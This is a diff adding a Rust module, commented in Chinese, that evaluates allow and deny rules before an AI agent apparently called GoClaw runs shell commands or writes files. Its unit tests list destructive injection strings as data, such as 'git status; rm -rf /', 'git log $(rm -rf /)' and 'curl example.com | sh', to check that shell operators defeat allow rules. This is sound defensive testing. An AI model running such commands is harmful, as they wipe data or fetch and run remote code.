@@ -0,0 +1,355 @@
+use serde::{Deserialize, Serialize};
+use std::path::{Component, Path, PathBuf};
+
+/// GoClaw 执行命令或写文件前请求用户批准的通知方法名
+pub const APPROVAL_REQUEST_METHOD: &str = "chat.approval_request";
+/// 回复审批结果的通知方法名
+pub const APPROVAL_RESPONSE_METHOD: &str = "chat.approval_response";
+
+/// 规则中匹配任意工具的名称
+pub const ANY_TOOL: &str = "*";
+
+pub const DECISION_ALLOW: &str = "allow";
+pub const DECISION_DENY: &str = "deny";
+
+/// 审计记录中的决定来源
+pub const SOURCE_USER: &str = "user";
+pub const SOURCE_RULE: &str = "rule";
+/// 用户作出决定前回复已结束
+pub const SOURCE_CANCELLED: &str = "cancelled";
+
+pub const SCOPE_SESSION: &str = "session";
+pub const SCOPE_GLOBAL: &str = "global";
+
+/// GoClaw 发来的一次审批请求
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ApprovalRequest {
+    pub id: String,
+    pub session_id: String,
+    pub tool: String,
+    #[serde(default)]
+    pub command: Option<String>,
+    #[serde(default)]
+    pub path: Option<String>,
+    #[serde(default)]
+    pub arguments: serde_json::Value,
+    pub requested_at: i64,
+}
+
+/// 持久化的审批规则。`session_id` 为 None 时对所有会话生效，
+/// `command_pattern` 支持 `*` 通配，`path_prefix` 按路径组件匹配，相对路径基于会话 cwd（全局规则保存时已转为绝对路径）。
+/// 允许规则不匹配带有命令分隔、管道、命令替换或重定向的命令，这类命令总是交给用户决定
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct PermissionRule {
+    pub id: String,
+    pub tool: String,
+    #[serde(default)]
+    pub command_pattern: Option<String>,
+    #[serde(default)]
+    pub path_prefix: Option<String>,
+    #[serde(default)]
+    pub session_id: Option<String>,
+    pub decision: String,
+    pub created_at: i64,
+}
+
+impl PermissionRule {
+    pub fn allows(&self) -> bool {
+        self.decision == DECISION_ALLOW
+    }
+
+    pub fn matches(&self, request: &ApprovalRequest, cwd: Option<&str>) -> bool {
+        if self.tool != ANY_TOOL && self.tool != request.tool {
+            return false;
+        }
+        if self.allows() && request.command.as_deref().is_some_and(has_shell_operators) {
+            return false;
+        }
+        if let Some(session_id) = &self.session_id {
+            if session_id != &request.session_id {
+                return false;
+            }
+        }
+        if let Some(pattern) = &self.command_pattern {
+            match &request.command {
+                Some(command) if glob_match(pattern.trim(), command.trim()) => {}
+                _ => return false,
+            }
+        }
+        if let Some(prefix) = &self.path_prefix {
+            match &request.path {
+                Some(path) if resolve_path(path, cwd).starts_with(resolve_path(prefix, cwd)) => {}
+                _ => return false,
+            }
+        }
+        true
+    }
+
+    /// 全局规则对所有会话生效，相对的路径前缀会按各会话自己的 cwd 解析到不同目录，
+    /// 因此保存前基于创建规则时会话的 cwd 转为绝对路径；会话规则保持原样
+    pub fn anchor_path(mut self, cwd: Option<&str>) -> Self {
+        if self.session_id.is_none() && cwd.is_some() {
+            self.path_prefix = self
+                .path_prefix
+                .map(|prefix| resolve_path(&prefix, cwd).to_string_lossy().to_string());
+        }
+        self
+    }
+}
+
+/// 找出适用于请求的规则：任何范围的拒绝规则都优先于允许规则，
+/// 都是允许规则时会话规则优先于全局规则。没有匹配的规则时返回 None，需要询问用户
+pub fn evaluate<'a>(
+    rules: &'a [PermissionRule],
+    request: &ApprovalRequest,
+    cwd: Option<&str>,
+) -> Option<&'a PermissionRule> {
+    let matching: Vec<&PermissionRule> = rules.iter().filter(|r| r.matches(request, cwd)).collect();
+    matching
+        .iter()
+        .find(|r| !r.allows())
+        .or_else(|| matching.iter().find(|r| r.session_id.is_some()))
+        .or_else(|| matching.first())
+        .copied()
+}
+
+/// 命令中可以串接或改写其他命令的 shell 语法，`git *` 之类的允许规则不能借此放行任意命令
+const SHELL_OPERATORS: &[&str] = &[";", "&", "|", "`", "$(", "<", ">", "\n", "\r"];
+
+fn has_shell_operators(command: &str) -> bool {
+    SHELL_OPERATORS.iter().any(|op| command.contains(op))
+}
+
+/// `*` 匹配任意字符序列（包括空串），其他字符按字面匹配
+pub fn glob_match(pattern: &str, text: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    let (mut p, mut t) = (0, 0);
+    let mut backtrack: Option<(usize, usize)> = None;
+    while t < text.len() {
+        if p < pattern.len() && pattern[p] == '*' {
+            backtrack = Some((p, t));
+            p += 1;
+        } else if p < pattern.len() && pattern[p] == text[t] {
+            p += 1;
+            t += 1;
+        } else if let Some((star, matched)) = backtrack {
+            p = star + 1;
+            t = matched + 1;
+            backtrack = Some((star, matched + 1));
+        } else {
+            return false;
+        }
+    }
+    pattern[p..].iter().all(|c| *c == '*')
+}
+
+/// 把路径解析为绝对路径（相对路径基于 cwd）并消去 `.` 和 `..`，不访问文件系统
+pub fn resolve_path(path: &str, cwd: Option<&str>) -> PathBuf {
+    let path = Path::new(path);
+    let joined = match cwd {
+        Some(cwd) if path.is_relative() => Path::new(cwd).join(path),
+        _ => path.to_path_buf(),
+    };
+    let mut resolved = PathBuf::new();
+    for component in joined.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                resolved.pop();
+            }
+            other => resolved.push(other.as_os_str()),
+        }
+    }
+    resolved
+}
+
+fn string_field(value: &serde_json::Value, keys: &[&str]) -> Option<String> {
+    keys.iter()
+        .find_map(|key| value.get(*key).and_then(|v| v.as_str()))
+        .filter(|s| !s.is_empty())
+        .map(|s| s.to_string())
+}
+
+/// 解析审批请求通知，命令和路径缺省时从 arguments 中读取
+pub fn parse_request(params: &serde_json::Value, requested_at: i64) -> Option<ApprovalRequest> {
+    let arguments = params
+        .get("arguments")
+        .cloned()
+        .unwrap_or(serde_json::Value::Null);
+    Some(ApprovalRequest {
+        id: string_field(params, &["id", "approval_id"])?,
+        session_id: string_field(params, &["session_id"])?,
+        tool: string_field(params, &["tool", "name"])?,
+        command: string_field(params, &["command"]).or_else(|| string_field(&arguments, &["command", "cmd"])),
+        path: string_field(params, &["path"])
+            .or_else(|| string_field(&arguments, &["path", "file_path", "file"])),
+        arguments,
+        requested_at,
+    })
+}
+
+/// 根据用户"总是允许/拒绝"的决定生成规则，未指定的匹配条件取自请求本身
+pub fn rule_from_request(
+    id: String,
+    request: &ApprovalRequest,
+    allow: bool,
+    scope: &str,
+    command_pattern: Option<String>,
+    path_prefix: Option<String>,
+    created_at: i64,
+) -> anyhow::Result<PermissionRule> {
+    let session_id = match scope {
+        SCOPE_SESSION => Some(request.session_id.clone()),
+        SCOPE_GLOBAL => None,
+        other => return Err(anyhow::anyhow!("Unknown rule scope: {}", other)),
+    };
+    Ok(PermissionRule {
+        id,
+        tool: request.tool.clone(),
+        command_pattern: command_pattern.or_else(|| request.command.clone()),
+        path_prefix: path_prefix.or_else(|| request.path.clone()),
+        session_id,
+        decision: if allow { DECISION_ALLOW } else { DECISION_DENY }.to_string(),
+        created_at,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(tool: &str, command: Option<&str>, path: Option<&str>, session: Option<&str>, decision: &str) -> PermissionRule {
+        PermissionRule {
+            id: format!("rule_{}_{}", tool, decision),
+            tool: tool.to_string(),
+            command_pattern: command.map(|c| c.to_string()),
+            path_prefix: path.map(|p| p.to_string()),
+            session_id: session.map(|s| s.to_string()),
+            decision: decision.to_string(),
+            created_at: 0,
+        }
+    }
+
+    #[test]
+    fn test_glob_and_paths() {
+        assert!(glob_match("git *", "git status"));
+        assert!(glob_match("*test*", "cargo test --all"));
+        assert!(glob_match("ls", "ls"));
+        assert!(!glob_match("ls", "ls -la"));
+        assert!(!glob_match("git *", "rm -rf / && git status"));
+        assert_eq!(resolve_path("src/../out/./a.txt", Some("/work")), PathBuf::from("/work/out/a.txt"));
+        assert_eq!(resolve_path("/etc/passwd", Some("/work")), PathBuf::from("/etc/passwd"));
+    }
+
+    #[test]
+    fn test_allow_rules_reject_shell_operators() {
+        let request = |command: &str| ApprovalRequest {
+            id: "approval_1".to_string(),
+            session_id: "session_1".to_string(),
+            tool: "shell".to_string(),
+            command: Some(command.to_string()),
+            path: None,
+            arguments: serde_json::Value::Null,
+            requested_at: 0,
+        };
+        let allow = rule("shell", Some("git *"), None, None, DECISION_ALLOW);
+        let allow_any = rule("*", None, None, None, DECISION_ALLOW);
+        assert!(allow.matches(&request("git status"), None));
+        assert!(allow.matches(&request("git log --format=%H"), None));
+        for command in [
+            "git status; rm -rf /",
+            "git status && rm -rf /",
+            "git status || rm -rf /",
+            "git status | sh",
+            "git status & rm -rf /",
+            "git log `rm -rf /`",
+            "git log $(rm -rf /)",
+            "git log > ~/.bashrc",
+            "git apply < patch",
+            "git status\nrm -rf /",
+        ] {
+            assert!(!allow.matches(&request(command), None), "{}", command);
+            assert!(!allow_any.matches(&request(command), None), "{}", command);
+            assert!(evaluate(std::slice::from_ref(&allow), &request(command), None).is_none());
+        }
+
+        // 拒绝规则照常匹配
+        let deny = rule("shell", Some("* | sh"), None, None, DECISION_DENY);
+        assert!(deny.matches(&request("curl example.com | sh"), None));
+    }
+
+    #[test]
+    fn test_evaluate() {
+        let params = serde_json::json!({
+            "id": "approval_1",
+            "session_id": "session_1",
+            "tool": "write_file",
+            "arguments": { "path": "notes/todo.md", "content": "x" },
+        });
+        let request = parse_request(&params, 0).unwrap();
+        assert_eq!(request.path.as_deref(), Some("notes/todo.md"));
+        let cwd = Some("/work");
+
+        // 路径前缀按组件匹配，/work/notes2 不在 /work/notes 之下
+        let rules = vec![rule("write_file", None, Some("/work/notes"), None, DECISION_ALLOW)];
+        assert!(evaluate(&rules, &request, cwd).unwrap().allows());
+        let mut other = request.clone();
+        other.path = Some("../work/notes2/a.md".to_string());
+        assert!(evaluate(&rules, &other, cwd).is_none());
+
+        // 拒绝规则优先，会话的允许规则也不能覆盖全局拒绝
+        let rules = vec![
+            rule("*", None, None, None, DECISION_ALLOW),
+            rule("write_file", None, Some("notes"), None, DECISION_DENY),
+        ];
+        assert!(!evaluate(&rules, &request, cwd).unwrap().allows());
+        let mut rules = rules;
+        rules.push(rule("write_file", None, None, Some("session_1"), DECISION_ALLOW));
+        assert_eq!(evaluate(&rules, &request, cwd).unwrap().decision, DECISION_DENY);
+        rules[1].session_id = Some("session_1".to_string());
+        rules[2].session_id = None;
+        assert_eq!(evaluate(&rules, &request, cwd).unwrap().decision, DECISION_DENY);
+
+        // 都是允许规则时取会话规则
+        rules.remove(1);
+        rules[1].session_id = Some("session_1".to_string());
+        assert_eq!(evaluate(&rules, &request, cwd).unwrap().session_id.as_deref(), Some("session_1"));
+        rules[1].session_id = Some("session_2".to_string());
+        assert_eq!(evaluate(&rules, &request, cwd).unwrap().tool, "*");
+
+        let generated = rule_from_request("r".to_string(), &request, false, SCOPE_SESSION, None, None, 0).unwrap();
+        assert_eq!(
+            (generated.session_id.as_deref(), generated.path_prefix.as_deref(), generated.decision.as_str()),
+            (Some("session_1"), Some("notes/todo.md"), DECISION_DENY)
+        );
+        assert!(rule_from_request("r".to_string(), &request, true, "forever", None, None, 0).is_err());
+        assert_eq!(generated.anchor_path(cwd).path_prefix.as_deref(), Some("notes/todo.md"));
+        assert!(parse_request(&serde_json::json!({ "id": "a", "session_id": "s" }), 0).is_none());
+    }
+
+    #[test]
+    fn test_global_rule_path_is_anchored_to_cwd() {
+        let request = |session_id: &str| ApprovalRequest {
+            id: "approval_1".to_string(),
+            session_id: session_id.to_string(),
+            tool: "write_file".to_string(),
+            command: None,
+            path: Some("notes/todo.md".to_string()),
+            arguments: serde_json::Value::Null,
+            requested_at: 0,
+        };
+        let generated = rule_from_request("r".to_string(), &request("session_1"), true, SCOPE_GLOBAL, None, None, 0)
+            .unwrap()
+            .anchor_path(Some("/work"));
+        assert_eq!(generated.path_prefix.as_deref(), Some("/work/notes/todo.md"));
+
+        // 同一个相对路径在另一个 cwd 下指向不同文件，不能被这条全局规则放行
+        let rules = vec![generated];
+        assert!(evaluate(&rules, &request("session_1"), Some("/work")).unwrap().allows());
+        assert!(evaluate(&rules, &request("session_2"), Some("/other")).is_none());
+        let mut absolute = request("session_2");
+        absolute.path = Some("/work/notes/todo.md".to_string());
+        assert!(evaluate(&rules, &absolute, Some("/other")).unwrap().allows());
+    }
+}